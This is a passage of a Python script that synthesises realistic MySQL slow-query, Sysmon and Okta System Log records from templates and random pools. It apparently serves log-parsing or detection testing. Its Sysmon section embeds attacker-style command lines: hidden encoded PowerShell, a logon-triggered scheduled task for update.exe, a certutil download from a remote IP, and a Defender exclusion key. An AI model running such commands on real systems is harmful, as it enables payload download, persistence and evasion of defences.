        "db": p_db, "sel": sel_tail, "upd": upd_tail, "ins": ins_tail, "del": del_tail,
        "lid": lambda: str(rng.randint(1, 9999999)), "iid": lambda: str(rng.randint(1, 9999999)),
        "proc": lambda: f"{rng.choice(['sp_close_day', 'refresh_stats', 'merge_customers', 'purge_carts'])}({rng.randint(1, 999)})",
        "show": lambda: rng.choice(["FULL PROCESSLIST", "ENGINE INNODB STATUS", "GLOBAL STATUS", f"TABLE STATUS FROM {p_db()}",
                                    f"CREATE TABLE {p_tab()}", f"INDEX FROM {p_tab()}"]),
        "alter": lambda: f"{p_tab()} ADD INDEX idx_{p_col()} ({p_col()})" if rng.random() < 0.6 else f"{p_tab()} ENGINE=InnoDB",
        "cols": lambda: ", ".join(f"{rng.choice('oci')}.{p_col()}" for _ in range(rng.randint(2, 5))),
        "from": lambda: f"{p_tab()} o", "join": lambda: f"{p_tab()} c ON c.id = o.{p_col()}",
        "where": cond, "order": lambda: f"o.{p_col()} {rng.choice(['DESC', 'ASC'])} LIMIT {rng.choice([10, 25, 100, 500])}",
        "thr": lambda: str(rng.randint(1, 400)), "ver": lambda: rng.choice(["8.0.36", "8.0.40", "8.0.35"]),
        "port": lambda: "3306", "sock": lambda: "/var/run/mysqld/mysqld.sock",
        "tid": lambda: str(rng.randint(10000, 999999)), "bs": lambda: str(rng.randint(11, 900000)),
        "br": lambda: str(rng.randint(20, 4000)), "rk": lambda: str(rng.randint(0, 90000)),
        "rrn": lambda: str(rng.randint(0, 9000000)), "tmp": lambda: str(rng.choice([0, 0, 1, 2])),
        "tmpd": lambda: str(rng.choice([0, 0, 0, 1])), "sr": lambda: str(rng.choice([0, 0, rng.randint(1, 90000)])),
    }
    specs = {
        "hdr1": ("-", "/usr/sbin/mysqld, Version: {ver} (MySQL Community Server - GPL). started with:"),
        "hdr2": ("-", "Tcp port: {port}  Unix socket: {sock}"),
        "hdr3": ("-", "Time                 Id Command    Argument"),
        "time": ("-", "# Time: {time}"),
        "uh": ("-", "# User@Host: {user}[{user}] @ {host} [{ip}]  Id: {id}"),
        "uh_noname": ("-", "# User@Host: {user}[{user}] @  [{ip}]  Id: {id}"),
        "uh_local": ("-", "# User@Host: {user}[{user}] @ {host} []  Id: {id}"),
        "uh_empty": ("-", "# User@Host: [] @  []  Id: {id}"),
        "qt": ("-", "# Query_time: {qt}  Lock_time: {lt} Rows_sent: {rs}  Rows_examined: {re}"),
        "qt_extra": ("-", "# Query_time: {qt}  Lock_time: {lt} Rows_sent: {rs}  Rows_examined: {re} Thread_id: {tid} Errno: 0 Killed: 0 Bytes_received: {br} Bytes_sent: {bs} Read_first: {tmp} Read_last: 0 Read_key: {rk} Read_next: {rk} Read_prev: 0 Read_rnd: 0 Read_rnd_next: {rrn} Sort_merge_passes: 0 Sort_range_count: 0 Sort_rows: {sr} Sort_scan_count: {tmp} Created_tmp_disk_tables: {tmpd} Created_tmp_tables: {tmp} Start: {start} End: {end}"),
        "set_ts": ("-", "SET timestamp={ts};"),
        "set_ids": ("-", "SET last_insert_id={lid},insert_id={iid},timestamp={ts};"),
        "use": ("-", "use {db};"),
        "select": ("-", "SELECT {sel};"),
        "update": ("-", "UPDATE {upd};"),
        "insert": ("-", "INSERT {ins};"),
        "delete": ("-", "DELETE {del};"),
        "replace": ("-", "REPLACE INTO {tab} ({c1}, {c2}) VALUES ({v1}, {v2});"),
        "call": ("-", "CALL {proc};"),
        "commit": ("-", "COMMIT;"),
        "show": ("-", "SHOW {show};"),
        "alter": ("-", "ALTER TABLE {alter};"),
        "optimize": ("-", "OPTIMIZE TABLE {tab};"),
        "adm_quit": ("-", "# administrator command: Quit;"),
        "adm_prepare": ("-", "# administrator command: Prepare;"),
        "adm_close": ("-", "# administrator command: Close stmt;"),
        "adm_binlog": ("-", "# administrator command: Binlog Dump GTID;"),
        "throttle": ("-", "throttle: {thr} 'index not used' warning(s) suppressed.;"),
        "ml_select": ("-", "SELECT {cols}"),
        "ml_from": ("-", "  FROM {from}"),
        "ml_join": ("-", "  JOIN {join}"),
        "ml_where": ("-", " WHERE {where}"),
        "ml_order": ("-", " ORDER BY {order};"),
    }
    gens.update({"tab": p_tab, "c1": p_col, "c2": p_col, "v1": num, "v2": num})

    def record(stmt_rows, who="app", ids=False):
        q = qtimes()
        start = ctx.t - timedelta(seconds=q["_qt"])
        rows = [("time", {})]
        if who == "local":
            rows.append(("uh_local", {"user": rng.choice(["root", "root", "admin", "backup"]), "host": "localhost"}))
        elif who == "empty":
            rows.append(("uh_empty", {"id": "0"}))
        else:
            u = p_user()
            h, ip = p_host()
            rows.append(("uh_noname" if ctx.maybe("uh_noname", 0.12) else "uh", {"user": u, "host": h, "ip": ip}))
        ex = ctx.maybe("qt_extra", 0.04)
        rows.append(("qt_extra" if ex else "qt", dict(q, start=start.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                                                       end=ctx.t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"))))
        if ctx.maybe("use", 0.25):
            rows.append(("use", {}))
        rows.append(("set_ids" if ids else "set_ts", {"ts": str(int(start.replace(tzinfo=timezone.utc).timestamp()))}))
        return rows + stmt_rows

    def simple(name, who="app"):
        return lambda: record([(name, {})], who)

    def k_insert():
        return record([("insert", {})], ids=ctx.maybe("set_ids", 0.3))

    def k_multiline():
        rows = [("ml_select", {}), ("ml_from", {})]
        if rng.random() < 0.6 or ctx.need("ml_join"):
            rows.append(("ml_join", {}))
        return record(rows + [("ml_where", {}), ("ml_order", {})])

    def k_restart():
        return [("hdr1", {}), ("hdr2", {}), ("hdr3", {})]

    kinds = [simple("select"), simple("update"), k_insert, k_multiline, simple("delete"), simple("adm_quit"),
             simple("commit"), simple("call"), simple("replace"), simple("adm_prepare"),
             simple("show", "local"), simple("adm_close"), simple("throttle", "empty"),
             simple("alter", "local"), simple("optimize", "local"), simple("adm_binlog"), k_restart]
    return run(ctx, specs, kinds, gens, s=1.15)


# ------------------------------------------------------------------------------------------
# 5. sysmon_text
# ------------------------------------------------------------------------------------------

def make_sysmon_text(rng: random.Random) -> list[dict[str, str]]:
    ctx = Ctx(rng, gap=6.0)
    dom = rng.choice(["CORP", "ACME", "CONTOSO", "FABRIKAM"])
    users = [f"{dom}\\{f[0]}{l}" for f in FIRST[:30] for l in rng.sample(LAST, 1)]
    p_user = Pool(rng, ["NT AUTHORITY\\SYSTEM"] * 3 + ["NT AUTHORITY\\NETWORK SERVICE", "NT AUTHORITY\\LOCAL SERVICE"] + users, 0.9)
    exes = [  # image, filever, description, product, company, original
        ("C:\\Windows\\System32\\cmd.exe", "10.0.19041.4355 (WinBuild.160101.0800)", "Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"),
        ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "10.0.19041.3996 (WinBuild.160101.0800)", "Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE"),
        ("C:\\Windows\\System32\\svchost.exe", "10.0.19041.4239 (WinBuild.160101.0800)", "Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"),
        ("C:\\Windows\\System32\\conhost.exe", "10.0.19041.4355 (WinBuild.160101.0800)", "Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE"),
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "131.0.6778.86", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "16.0.18129.20158", "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"),
        ("C:\\Windows\\System32\\rundll32.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "Windows host process (Rundll32)", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RUNDLL32.EXE"),
        ("C:\\Windows\\System32\\schtasks.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool", "Microsoft® Windows® Operating System", "Microsoft Corporation", "schtasks.exe"),
        ("C:\\Program Files\\Git\\cmd\\git.exe", "2.47.1.1", "Git for Windows", "Git", "The Git Development Community", "git.exe"),
        ("C:\\Windows\\System32\\msiexec.exe", "5.0.19041.4355 (WinBuild.160101.0800)", "Windows® installer", "Windows Installer - Unicode", "Microsoft Corporation", "msiexec.exe"),
        ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "10.0.19041.3996 (WinBuild.160101.0800)", "WMI Provider Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe"),
        ("C:\\Users\\Public\\Downloads\\update.exe", "-", "-", "-", "-", "-"),
        ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "1.95.3", "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "electron.exe"),
        ("C:\\Windows\\System32\\certutil.exe", "10.0.19041.4239 (WinBuild.160101.0800)", "CertUtil.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CertUtil.exe"),
    ]
    p_exe = Pool(rng, exes, 1.0)
    cmdlines = {
        "cmd.exe": ['"C:\\Windows\\system32\\cmd.exe" /c "{p}\\build.bat"', 'C:\\Windows\\system32\\cmd.exe /c ipconfig /all', 'cmd.exe /c whoami /groups', '"C:\\Windows\\system32\\cmd.exe" /c net use Z: \\\\fs01\\share'],
        "powershell.exe": ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -enc {b64}', 'powershell.exe Get-Service | Where-Object Status -eq Running'],
        "svchost.exe": ['C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p'],
        "chrome.exe": ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n}', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'],
        "schtasks.exe": ['schtasks /create /tn "Updater" /tr "C:\\Users\\Public\\Downloads\\update.exe" /sc onlogon', 'schtasks.exe /query /fo LIST'],
        "rundll32.exe": ['rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL', 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:{n}'],
        "certutil.exe": ['certutil.exe -urlcache -split -f http://{ip}/a.txt C:\\Users\\Public\\a.txt'],
    }
    p_dir = Pool(rng, ["C:\\Windows\\system32\\", "C:\\Users\\{u}\\", "C:\\Windows\\", "C:\\Program Files\\Google\\Chrome\\Application\\{v}\\", "C:\\Scripts\\"])
    p_host = Pool(rng, [f"{rng.choice(['WS', 'LT', 'DC', 'SRV'])}-{rng.randint(100, 999)}.{dom.lower()}.local" for _ in range(25)])
    p_domain = Pool(rng, ["www.google.com", "login.microsoftonline.com", "outlook.office365.com", "github.com", "wpad",
                          "update.googleapis.com", "settings-win.data.microsoft.com", "dc01." + dom.lower() + ".local",
                          "fs01." + dom.lower() + ".local", "ctldl.windowsupdate.com", "pastebin.com", "teams.microsoft.com",
                          "slack.com", "api.segment.io", "cdn.jsdelivr.net", f"{alnum(rng, 12).lower()}.duckdns.org"], 1.0)
    p_pub = ipool(rng, 60, pub_ip)
    p_priv = ipool(rng, 40, priv_ip)
    p_rule = Pool(rng, ["-"] * 12 + ["technique_id=T1059.001,technique_name=PowerShell", "technique_id=T1053.005,technique_name=Scheduled Task",
                                     "technique_id=T1105,technique_name=Ingress Tool Transfer", "technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder"], 1.5)
    guid_cache = Pool(rng, [f"{{{hexs(rng, 8)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 12)}}}" for _ in range(80)], 0.7)

    def newguid():
        return f"{{{hexs(rng, 8)}-{hexs(rng, 4)}-{rng.choice(['6742', '6743', '6744', '6745'])}-{hexs(rng, 4)}-{hexs(rng, 12)}}}"

    def tsd():
        return {"date": ctx.t.strftime("%Y-%m-%d"), "time": ctx.t.strftime("%H:%M:%S.%f")[:-3]}

    def exe():
        im, fv, de, pr, co, of = p_exe()
        u = p_user()
        short = u.split("\\")[-1]
        base = im.rsplit("\\", 1)[-1].lower()
        cl = rng.choice(cmdlines.get(base, [f'"{im}"']))
        cl = cl.replace("{p}", f"C:\\Users\\{short}\\src").replace("{n}", str(rng.randint(3, 300))) \
            .replace("{b64}", alnum(rng, 40)).replace("{ip}", p_pub())
        return {"image": im, "filever": fv, "desc": de, "product": pr, "company": co, "orig": of,
                "cmdline": cl, "user": u, "curdir": p_dir().replace("{u}", short).replace("{v}", "131.0.6778.86")}

    gens = {
        "rule": p_rule, "date": tsd, "time": tsd, "pguid": guid_cache, "pid": lambda: str(rng.randrange(4, 40000, 4)),
        "image": exe, "filever": exe, "desc": exe, "product": exe, "company": exe, "orig": exe, "cmdline": exe,
        "user": exe, "curdir": exe, "lguid": guid_cache, "logonid": lambda: rng.choice(["0x3E7", "0x3E4", "0x3E5", hex(rng.randint(0x10000, 0xFFFFFF)).upper().replace("0X", "0x")]),
        "tsid": lambda: rng.choice(["0", "1", "1", "2"]), "integrity": lambda: rng.choice(["Medium", "Medium", "High", "System"]),
        "sha": lambda: hexs(rng, 64).upper(), "imphash": lambda: hexs(rng, 32).upper(),
        "ppguid": guid_cache, "ppid": lambda: str(rng.randrange(4, 40000, 4)),
        "pimage": lambda: rng.choice(["C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe",
                                      "C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"]),
        "pcmd": lambda: rng.choice(["C:\\Windows\\Explorer.EXE", "C:\\Windows\\system32\\services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                                    "\"C:\\Windows\\system32\\cmd.exe\"", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""]),
        "puser": p_user, "proto": lambda: rng.choice(["tcp", "tcp", "tcp", "udp"]),
        "init": lambda: rng.choice(["true", "true", "false"]), "sip": p_priv, "shost": p_host,
        "sport": lambda: str(rng.randint(49152, 65535)), "sportname": lambda: "-",
        "dip": lambda: p_pub() if rng.random() < 0.7 else p_priv(), "dhost": lambda: rng.choice(["-", p_domain()]),
        "dport": lambda: rng.choice(["443", "443", "443", "80", "53", "445", "135", "389", "3389", "8443"]),
        "dportname": lambda: rng.choice(["https", "-", "http", "domain", "microsoft-ds", "ldap"]),
        "target": lambda: rng.choice([f"C:\\Users\\{rng.choice(FIRST)}\\AppData\\Local\\Temp\\{alnum(rng, 8)}.tmp",
                                      f"C:\\Users\\{rng.choice(FIRST)}\\Downloads\\{rng.choice(['invoice', 'report', 'setup', 'Q4_numbers'])}.{rng.choice(['pdf', 'xlsx', 'zip', 'exe', 'docm'])}",
                                      f"C:\\Windows\\Prefetch\\{rng.choice(['CMD', 'POWERSHELL', 'GIT', 'CHROME'])}.EXE-{hexs(rng, 8).upper()}.pf",
                                      f"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{alnum(rng, 6)}.lnk"]),
        "regkey": lambda: rng.choice(["HKU\\S-1-5-21-{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                                      "HKLM\\System\\CurrentControlSet\\Services\\{}\\Start",
                                      "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public",
                                      "HKU\\S-1-5-21-{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\MRUListEx"]).format(
                                          rng.choice([f"{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**8, 10**9)}-{rng.randint(1000, 9999)}",
                                                      rng.choice(["WinDefend", "BITS", "wuauserv", "Spooler"])])),
        "details": lambda: rng.choice(["DWORD (0x00000002)", "DWORD (0x00000004)", "Binary Data", "DWORD (0x00000000)",
                                       '"C:\\Users\\Public\\Downloads\\update.exe"', "QWORD (0x01db46c1-0x5f2d8a10)"]),
        "qname": p_domain, "qstatus": lambda: rng.choice(["0", "0", "0", "0", "9003", "1460"]),
        "qresults": lambda: rng.choice([f"::ffff:{p_pub()};", f"type:  5 {p_domain()};::ffff:{p_pub()};::ffff:{p_pub()};", "-", f"::ffff:{p_priv()};"]),
    }
    specs = {
        "h_proc": ("-", "Process Create:"), "h_net": ("-", "Network connection detected:"),
        "h_file": ("-", "File created:"), "h_reg": ("-", "Registry value set:"), "h_dns": ("-", "Dns query:"),
        "rule": ("-", "RuleName: {rule}"), "utc": ("-", "UtcTime: {date} {time}"),
        "pguid": ("-", "ProcessGuid: {pguid}"), "pid": ("-", "ProcessId: {pid}"), "image": ("-", "Image: {image}"),
        "filever": ("-", "FileVersion: {filever}"), "desc": ("-", "Description: {desc}"),
        "product": ("-", "Product: {product}"), "company": ("-", "Company: {company}"),
        "orig": ("-", "OriginalFileName: {orig}"), "cmdline": ("-", "CommandLine: {cmdline}"),
        "curdir": ("-", "CurrentDirectory: {curdir}"), "user": ("-", "User: {user}"),
        "lguid": ("-", "LogonGuid: {lguid}"), "logonid": ("-", "LogonId: {logonid}"),
        "tsid": ("-", "TerminalSessionId: {tsid}"), "integrity": ("-", "IntegrityLevel: {integrity}"),
        "hashes": ("-", "Hashes: SHA256={sha},IMPHASH={imphash}"), "ppguid": ("-", "ParentProcessGuid: {ppguid}"),
        "ppid": ("-", "ParentProcessId: {ppid}"), "pimage": ("-", "ParentImage: {pimage}"),
        "pcmd": ("-", "ParentCommandLine: {pcmd}"), "puser": ("-", "ParentUser: {puser}"),
        "proto": ("-", "Protocol: {proto}"), "init": ("-", "Initiated: {init}"),
        "sipv6": ("-", "SourceIsIpv6: {sipv6}"), "sip": ("-", "SourceIp: {sip}"),
        "shost": ("-", "SourceHostname: {shost}"), "sport": ("-", "SourcePort: {sport}"),
        "sportname": ("-", "SourcePortName: {sportname}"), "dipv6": ("-", "DestinationIsIpv6: {dipv6}"),
        "dip": ("-", "DestinationIp: {dip}"), "dhost": ("-", "DestinationHostname: {dhost}"),
        "dport": ("-", "DestinationPort: {dport}"), "dportname": ("-", "DestinationPortName: {dportname}"),
        "target": ("-", "TargetFilename: {target}"), "ctime": ("-", "CreationUtcTime: {cdate} {ctime}"),
        "evtype": ("-", "EventType: SetValue"), "regkey": ("-", "TargetObject: {regkey}"),
        "details": ("-", "Details: {details}"), "qname": ("-", "QueryName: {qname}"),
        "qstatus": ("-", "QueryStatus: {qstatus}"), "qresults": ("-", "QueryResults: {qresults}"),
    }

    def rows_of(names, **ov):
        return [(n, ov.get(n, {})) for n in names]

    def k_proc():
        return rows_of(["h_proc", "rule", "utc", "pguid", "pid", "image", "filever", "desc", "product", "company", "orig",
                        "cmdline", "curdir", "user", "lguid", "logonid", "tsid", "integrity", "hashes", "ppguid", "ppid",
                        "pimage", "pcmd", "puser"], pguid={"pguid": newguid()})

    def k_net():
        return rows_of(["h_net", "rule", "utc", "pguid", "pid", "image", "user", "proto", "init", "sipv6", "sip", "shost",
                        "sport", "sportname", "dipv6", "dip", "dhost", "dport", "dportname"],
                       sipv6={"sipv6": "false"}, dipv6={"dipv6": "false"})

    def k_file():
        c = ctx.t - timedelta(seconds=rng.choice([0, 0, 0, rng.uniform(1, 9e6)]))
        return rows_of(["h_file", "rule", "utc", "pguid", "pid", "image", "target", "ctime", "user"],
                       ctime={"cdate": c.strftime("%Y-%m-%d"), "ctime": c.strftime("%H:%M:%S.%f")[:-3]})

    def k_reg():
        return rows_of(["h_reg", "rule", "evtype", "utc", "pguid", "pid", "image", "regkey", "details", "user"])

    def k_dns():
        return rows_of(["h_dns", "rule", "utc", "pguid", "pid", "qname", "qstatus", "qresults", "image", "user"])

    return run(ctx, specs, [k_proc, k_net, k_dns, k_file, k_reg], gens, s=1.0)


# ------------------------------------------------------------------------------------------
# 6. okta_syslog_json
# ------------------------------------------------------------------------------------------

def _jspec(obj) -> str:
    """JSON with placeholders: "@s:f" -> "{f}" (quoted string), "@r:f" -> {f} (raw json value)."""
    s = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    s = s.replace("{", "{{").replace("}", "}}")
    s = re.sub(r'"@s:(\w+)"', r'"{\1}"', s)
    return re.sub(r'"@r:(\w+)"', r'{\1}', s)


OKTA_EVENTS = [  # eventType, displayMessage, legacy, result, reason(None|"var"), severity, target, uri
    ("user.session.start", "User login to Okta", "core.user_auth.login_success", "SUCCESS", None, "INFO", None, "/api/v1/authn"),
    ("policy.evaluate_sign_on", "Evaluation of sign-on policy", None, "ALLOW", "var", "INFO", "policy", "/idp/idx/identify"),
    ("user.authentication.sso", "User single sign on to app", "app.auth.sso", "SUCCESS", None, "INFO", "app", "/app/{app}/sso/saml"),
    ("app.oauth2.as.token.grant.access_token", "OAuth2 access token is granted", None, "SUCCESS", None, "INFO", "token", "/oauth2/default/v1/token"),
    ("user.authentication.auth_via_mfa", "Authentication of user via MFA", "core.user.factor.attempt_success", "SUCCESS", None, "INFO", "factor", "/idp/idx/challenge/answer"),
    ("system.push.send_factor_verify_push", "Push notification sent for verify", None, "SUCCESS", None, "INFO", "factor", "/idp/idx/challenge"),
    ("user.session.end", "User logout from Okta", "core.user_auth.logout_success", "SUCCESS", None, "INFO", None, "/login/signout"),
    ("app.oauth2.as.authorize.code", "OAuth2 authorization code request", None, "SUCCESS", None, "INFO", "app", "/oauth2/default/v1/authorize"),
    ("user.session.start", "User login to Okta", "core.user_auth.login_failed", "FAILURE", "var", "WARN", None, "/api/v1/authn"),
    ("app.oauth2.as.token.grant.refresh_token", "OAuth2 refresh token is granted", None, "SUCCESS", None, "INFO", "token", "/oauth2/default/v1/token"),
    ("policy.evaluate_sign_on", "Evaluation of sign-on policy", None, "CHALLENGE", "var", "INFO", "policy", "/idp/idx/identify"),
    ("user.authentication.verify", "Verify user identity", None, "SUCCESS", None, "INFO", None, "/idp/idx/identify"),
    ("group.user_membership.add", "Add user to group membership", "core.user_group_member.user_add", "SUCCESS", None, "INFO", "group", "/api/v1/groups/{gid}/users/{uid}"),
    ("application.user_membership.add", "Add user to application membership", "app.generic.provision.assign_user_to_app", "SUCCESS", None, "INFO", "app", "/api/v1/apps/{app}/users"),
    ("user.authentication.auth_via_mfa", "Authentication of user via MFA", "core.user.factor.attempt_fail", "FAILURE", "var", "WARN", "factor", "/idp/idx/challenge/answer"),
    ("user.lifecycle.create", "Create Okta user", "core.user.config.user_creation.success", "SUCCESS", None, "INFO", "user", "/api/v1/users"),
    ("user.lifecycle.activate", "Activate Okta user", "core.user.config.user_activated", "SUCCESS", None, "INFO", "user", "/api/v1/users/{uid}/lifecycle/activate"),
    ("user.account.update_password", "User update password for Okta", "core.user.config.password_update.success", "SUCCESS", None, "INFO", "user", "/api/v1/users/{uid}/credentials/change_password"),
    ("group.user_membership.remove", "Remove user from group membership", "core.user_group_member.user_remove", "SUCCESS", None, "INFO", "group", "/api/v1/groups/{gid}/users/{uid}"),
    ("user.mfa.factor.activate", "User set up Okta Verify Push factor", "core.user.factor.activate", "SUCCESS", None, "INFO", "factor", "/idp/idx/credential/enroll"),
    ("policy.evaluate_sign_on", "Evaluation of sign-on policy", None, "DENY", "var", "WARN", "policy", "/idp/idx/identify"),
    ("user.account.lock", "Max sign in attempts exceeded", "core.user_auth.account_locked", "SUCCESS", None, "WARN", None, "/api/v1/authn"),
    ("user.mfa.factor.deactivate", "Reset factor for user", "core.user.factor.deactivate", "SUCCESS", None, "INFO", "factor", "/api/v1/users/{uid}/factors/{fid}"),
    ("user.account.reset_password", "Fired when the user's Okta password is reset", "core.user.config.password_reset", "SUCCESS", None, "INFO", "user", "/api/v1/users/{uid}/lifecycle/reset_password"),
    ("user.lifecycle.deactivate", "Deactivate Okta user", "core.user.config.user_deactivated", "SUCCESS", None, "INFO", "user", "/api/v1/users/{uid}/lifecycle/deactivate"),
    ("user.lifecycle.suspend", "Suspend Okta user", "core.user.config.user_status.suspended", "SUCCESS", None, "INFO", "user", "/api/v1/users/{uid}/lifecycle/suspend"),
    ("security.threat.detected", "Request from suspicious actor", None, "DENY", "var", "WARN", None, "/api/v1/authn"),
    ("system.org.rate_limit.warning", "Rate limit warning", "core.framework.ratelimit.warning", "SUCCESS", None, "WARN", None, "/api/v1/users"),
    ("system.org.rate_limit.violation", "Rate limit violation", "core.framework.ratelimit.exceeded", "DENY", None, "WARN", None, "/api/v1/logs"),
    ("application.provision.user.push", "Push user to external application", "app.user_management.push_new_user", "FAILURE", "var", "ERROR", "app", "/api/v1/apps/{app}/users"),
    ("system.api_token.create", "Create API token", "api.token.create", "SUCCESS", None, "INFO", "token", "/api/v1/tokens"),
    ("user.session.access_admin_app", "User accessing Okta admin app", "app.admin_app.access", "SUCCESS", None, "INFO", "app", "/admin/sso/callback"),
]


def make_okta_syslog_json(rng: random.Random) -> list[dict[str, str]]:
    ctx = Ctx(rng, gap=3.0)
    org = rng.choice(["acme", "contoso", "initech", "globex", "umbrella"])
    people = [(f"{f}.{l}", f"{f.title()} {l.title()}") for f in FIRST for l in rng.sample(LAST, 2)]
    p_person = Pool(rng, [(f"00u{alnum(rng, 17)}", f"{a}@{org}.com", d) for a, d in people[:120]], 0.8)
    geos = [("San Francisco", "California", "United States", "94107", 37.7697, -122.3933),
            ("New York", "New York", "United States", "10001", 40.7484, -73.9967),
            ("Austin", "Texas", "United States", "78701", 30.2711, -97.7437),
            ("Chicago", "Illinois", "United States", "60601", 41.8858, -87.6181),
            ("London", "England", "United Kingdom", "EC2V", 51.5088, -0.093),
            ("Berlin", "Land Berlin", "Germany", "10115", 52.5321, 13.3849),
            ("Bengaluru", "Karnataka", "India", "560001", 12.9634, 77.5855),
            ("Toronto", "Ontario", "Canada", "M5H", 43.6532, -79.3832),
            ("Ashburn", "Virginia", "United States", "20149", 39.0469, -77.4903),
            ("Amsterdam", "North Holland", "Netherlands", "1012", 52.3740, 4.8897),
            ("Lagos", "Lagos", "Nigeria", "100001", 6.4541, 3.3947),
            ("São Paulo", "Sao Paulo", "Brazil", "01000", -23.5475, -46.6361)]
    p_geo = Pool(rng, geos, 1.2)
    p_ip = ipool(rng, 150, pub_ip, 0.9)
    uas = [("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Mac OS X", "CHROME"),
           ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "Windows 10", "EDGE_CHROMIUM"),
           ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "Windows 10", "FIREFOX"),
           ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", "iOS", "SAFARI"),
           ("Okta Verify/9.30.0 (iPhone; iOS 18.1.1)", "iOS", "UNKNOWN"),
           ("okta-sdk-python/2.9.8 python/3.11.6 Linux/6.1.0", "Linux", "UNKNOWN"),
           ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", "Linux", "CHROME")]
    p_ua = Pool(rng, uas, 1.0)
    p_isp = Pool(rng, [(7922, "comcast", "comcast cable communications llc", "comcast.net"),
                       (7018, "at&t services", "at&t corp.", "att.net"), (16509, "amazon.com", "amazon.com inc.", "amazonaws.com"),
                       (3320, "deutsche telekom ag", "deutsche telekom ag", "t-ipconnect.de"),
                       (2856, "british telecommunications plc", "bt public internet service", "bt.com"),
                       (701, "verizon business", "verizon internet services", "verizon.net"),
                       (9009, "m247 europe srl", "m247 ltd", "m247.com")], 1.0)
    p_app = Pool(rng, [(f"0oa{alnum(rng, 17)}", n, k) for n, k in [("Salesforce.com", "salesforce"), ("Slack", "slack"),
                       ("Google Workspace", "google"), ("GitHub Enterprise Cloud - Organization", "githubcloud"),
                       ("AWS IAM Identity Center", "amazon_aws_sso"), ("Zoom", "zoomus"), ("Atlassian Cloud", "atlassian"),
                       ("Workday", "workday"), ("Okta Admin Console", "saasure"), ("Internal Portal", "oidc_client")]], 0.9)
    p_group = Pool(rng, [(f"00g{alnum(rng, 17)}", n) for n in ["Engineering", "Sales", "Everyone-FTE", "AWS-Admins",
                                                               "Contractors", "GitHub-Users", "Finance", "VPN-Users", "Support"]])
    reasons = {"SUCCESS": ["VERIFICATION_ERROR", "INVALID_CREDENTIALS", "LOCKED_OUT", "INVALID_CREDENTIALS"],
               "FAILURE": ["INVALID_CREDENTIALS", "INVALID_CREDENTIALS", "VERIFICATION_ERROR", "LOCKED_OUT", "Unknown User",
                           "Okta Verify push rejected", "User rejected Okta push verify"],
               "ALLOW": ["Sign-on policy evaluation resulted in ALLOW"],
               "CHALLENGE": ["Sign-on policy evaluation resulted in CHALLENGE"],
               "DENY": ["Sign-on policy evaluation resulted in DENY", "Password Spray", "Credential Stuffing", "Brute Force"]}

    def person():
        i, e, d = p_person()
        return {"aid": i, "aemail": e, "aname": d}

    def geo():
        c, s, co, pc, la, lo = p_geo()
        ip = p_ip()
        asn, org_, isp, dom = p_isp()
        ua, os_, br = p_ua()
        return {"city": c, "state": s, "country": co, "postal": pc, "lat": f"{la + rng.uniform(-0.05, 0.05):.4f}",
